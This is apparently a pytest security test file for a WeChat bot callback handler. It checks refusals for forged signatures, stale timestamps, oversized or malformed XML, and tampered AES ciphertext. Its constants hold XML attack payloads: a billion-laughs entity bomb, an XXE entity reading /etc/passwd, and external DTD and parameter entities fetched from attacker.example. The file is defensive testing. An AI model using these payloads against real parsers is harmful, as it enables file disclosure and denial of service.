"""Hostile callbacks: each is refused with the right status and reason, and nothing is expanded."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from xml.parsers import expat

import pytest

from bot.wechat import CallbackError, WeChatConfig, open_callback, verify_echo, xmlsafe
from tests.bot.wechat import signing

NOW = 1_700_000_000
PLAIN = WeChatConfig(token="gridlineToken01")
SAFE = WeChatConfig(token="gridlineToken01", appid="wx0123456789abcdef",
                    aes_key="abcdefghijklmnopqrstuvwxyz0123456789ABCDEFG")
OTHER_KEY = "pz2Zl2by0oZQ6AUV4EvnbF7A7VRUvrLN1vqnxsUjmTW"
TEXT = signing.text_xml("占道经营", create_time=NOW)
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
          + ']><xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>'
          '<MsgType>text</MsgType><Content>&i;</Content></xml>')
XXE = ('<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><ToUserName>gh</ToUserName>'
       '<FromUserName>o</FromUserName><CreateTime>1</CreateTime><MsgType>text</MsgType><Content>&xxe;</Content></xml>')
EXTERNAL_DTD = '<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>'
PARAMETER = '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><xml/>'
BEHIND_A_COMMENT = '<!-- <a --><!DOCTYPE xml [<!ENTITY x "boom">]><xml>&x;</xml>'


def _refusal(config: WeChatConfig, query: Mapping[str, str], body: bytes, now: float = NOW) -> tuple[int, str]:
    with pytest.raises(CallbackError) as caught:
        open_callback(config, query, body, now)
    return caught.value.status, caught.value.reason


def _plain(body: str | bytes) -> tuple[int, str]:
    request = signing.plain_request(PLAIN, body, timestamp=NOW)
    return _refusal(PLAIN, request.query, request.body)


def _resealed(encrypted: str, xml: str = TEXT) -> tuple[int, str]:
    """Refusal of an encrypted request whose Encrypt was replaced and then signed anew (token known)."""
    query = signing.encrypted_query(SAFE.token, str(NOW), "n", encrypted)
    return _refusal(SAFE, query, signing.envelope(xml, encrypted, "safe").encode())


def _flip(encrypted: str, index: int) -> str:
    raw = bytearray(base64.b64decode(encrypted))
    raw[index] ^= 0xFF
    return base64.b64encode(bytes(raw)).decode()


def test_bad_signature() -> None:
    request = signing.plain_request(PLAIN, TEXT, timestamp=NOW)
    assert _refusal(PLAIN, {**request.query, "signature": "0" * 40}, request.body) == (403, "bad_signature")
    assert _refusal(WeChatConfig(token="anotherToken"), request.query, request.body) == (403, "bad_signature")
    sealed = signing.encrypted_request(SAFE, TEXT, timestamp=NOW)
    assert _refusal(SAFE, {**sealed.query, "msg_signature": "0" * 40}, sealed.body) == (403, "bad_signature")


@pytest.mark.parametrize("skew", [-301, 301])
def test_stale_timestamp(skew: int) -> None:
    request = signing.plain_request(PLAIN, TEXT, timestamp=NOW + skew)
    assert _refusal(PLAIN, request.query, request.body) == (403, "stale_timestamp")
    at_the_edge = NOW + skew + (-300 if skew > 0 else 300)  # |now - timestamp| == 300 is still fresh
    assert open_callback(PLAIN, request.query, request.body, at_the_edge).message.kind == "text"
    with pytest.raises(CallbackError, match="stale_timestamp"):
        verify_echo(PLAIN, signing.echo_query(PLAIN, "e", timestamp=NOW + skew), NOW)


@pytest.mark.parametrize("timestamp", ["17e8", "１７００００００００", "9" * 5000, "-1"])
def test_timestamps_that_are_not_plain_digits(timestamp: str) -> None:
    nonce = "n"
    query = {"signature": signing.sign(PLAIN.token, timestamp, nonce), "timestamp": timestamp, "nonce": nonce}
    assert _refusal(PLAIN, query, TEXT.encode()) == (403, "stale_timestamp")


@pytest.mark.parametrize("missing", ["signature", "timestamp", "nonce"])
def test_missing_params(missing: str) -> None:
    request = signing.plain_request(PLAIN, TEXT, timestamp=NOW)
    query = {k: v for k, v in request.query.items() if k != missing}
    assert _refusal(PLAIN, query, request.body) == (400, "missing_params")
    assert _refusal(PLAIN, {**request.query, missing: ""}, request.body) == (400, "missing_params")


def test_missing_params_of_the_encrypted_modes_and_echo() -> None:
    sealed = signing.encrypted_request(SAFE, TEXT, timestamp=NOW)
    no_msg_signature = {k: v for k, v in sealed.query.items() if k != "msg_signature"}
    assert _refusal(SAFE, no_msg_signature, sealed.body) == (400, "missing_params")
    assert _refusal(SAFE, {**sealed.query, "encrypt_type": "des"}, sealed.body) == (400, "missing_params")
    with pytest.raises(CallbackError, match="missing_params"):
        verify_echo(PLAIN, {**signing.echo_query(PLAIN, "e", timestamp=NOW), "echostr": ""}, NOW)


def test_body_limit_is_64_kib() -> None:
    exactly = TEXT.encode() + b" " * (64 * 1024 - len(TEXT.encode()))
    request = signing.plain_request(PLAIN, exactly, timestamp=NOW)
    assert open_callback(PLAIN, request.query, request.body, NOW).message.content == "占道经营"
    assert _refusal(PLAIN, request.query, exactly + b" ") == (400, "too_large")


@pytest.mark.parametrize("body", [
    b"", b"   ", b"<xml><Content>x</xml>", b"<html/>", b"<xml/><xml/>", b"not xml", b"<xml>&amp</xml>",
    b"<xml><FromUserName>a</FromUserName><FromUserName>b</FromUserName></xml>",
    b"<xml><ToUserName>gh</ToUserName><CreateTime>1</CreateTime><MsgType>text</MsgType></xml>",
    b"<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>soon</CreateTime></xml>",
])
def test_malformed_xml(body: bytes) -> None:
    assert _plain(body) == (400, "malformed_xml")


@pytest.mark.parametrize("body", [LAUGHS, XXE, EXTERNAL_DTD, PARAMETER, BEHIND_A_COMMENT], ids=[
    "billion_laughs", "xxe", "external_dtd", "parameter_entity", "doctype_behind_a_comment"])
def test_entity_declarations_are_refused(body: str) -> None:
    assert _plain(body) == (400, "xml_entities")


@pytest.mark.parametrize("body", [LAUGHS, XXE, EXTERNAL_DTD, PARAMETER])
def test_the_prescan_refuses_before_any_parser_exists(body: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_parser(*_: object) -> None:
        raise AssertionError("the XML parser was reached")

    monkeypatch.setattr(expat, "ParserCreate", no_parser)
    with pytest.raises(CallbackError, match="xml_entities"):
        xmlsafe.parse_fields(body.encode())


def test_entities_inside_the_ciphertext_are_refused_too() -> None:
    assert _resealed(signing.encrypt(str(SAFE.aes_key), str(SAFE.appid), XXE.encode())) == (400, "xml_entities")


def test_a_resident_typing_doctype_is_not_an_attack() -> None:
    request = signing.plain_request(PLAIN, signing.text_xml("<!DOCTYPE x><!ENTITY y>", create_time=NOW), timestamp=NOW)
    assert open_callback(PLAIN, request.query, request.body, NOW).message.content == "<!DOCTYPE x><!ENTITY y>"


def test_invalid_utf8() -> None:
    assert _plain(TEXT.encode("gbk")) == (400, "invalid_utf8")
    assert _plain(TEXT.encode().replace("占".encode(), b"\xc3\x28")) == (400, "invalid_utf8")


def test_wrong_aes_key() -> None:
    other = WeChatConfig(token=SAFE.token, appid=SAFE.appid, aes_key=OTHER_KEY)
    sealed = signing.encrypted_request(other, TEXT, timestamp=NOW)
    assert _refusal(SAFE, sealed.query, sealed.body) == (400, "bad_aes_key")
    plain_only = WeChatConfig(token=SAFE.token)
    assert _refusal(plain_only, sealed.query, sealed.body) == (400, "bad_aes_key")


def test_wrong_appid() -> None:
    sealed = signing.encrypted_request(SAFE, TEXT, timestamp=NOW, appid="wxanother000000001")
    assert _refusal(SAFE, sealed.query, sealed.body) == (400, "wrong_appid")


def test_tampered_ciphertext() -> None:
    sealed = signing.encrypted_request(SAFE, TEXT, timestamp=NOW)
    encrypted = signing.encrypt(str(SAFE.aes_key), str(SAFE.appid), TEXT.encode())
    tampered = _flip(encrypted, 48)
    forged_body = signing.envelope(TEXT, tampered, "safe").encode()
    assert _refusal(SAFE, sealed.query, forged_body) == (403, "bad_signature")
    assert _resealed(tampered) == (400, "decrypt_failed")
    last_padding_byte = len(base64.b64decode(encrypted)) - 17
    assert _resealed(_flip(encrypted, last_padding_byte)) == (400, "bad_aes_key")


@pytest.mark.parametrize("junk", ["", "!!!not base64!!!", "QUJD", "a b c d", base64.b64encode(b"x" * 33).decode()])
def test_encrypt_that_is_not_a_ciphertext(junk: str) -> None:
    assert _resealed(junk) == (400, "decrypt_failed")


def test_encrypted_body_without_encrypt() -> None:
    sealed = signing.encrypted_request(SAFE, TEXT, timestamp=NOW)
    assert _refusal(SAFE, sealed.query, TEXT.encode()) == (400, "malformed_xml")


def test_status_follows_reason() -> None:
    assert CallbackError("replayed_nonce").status == 403
    assert CallbackError("too_large").status == 400
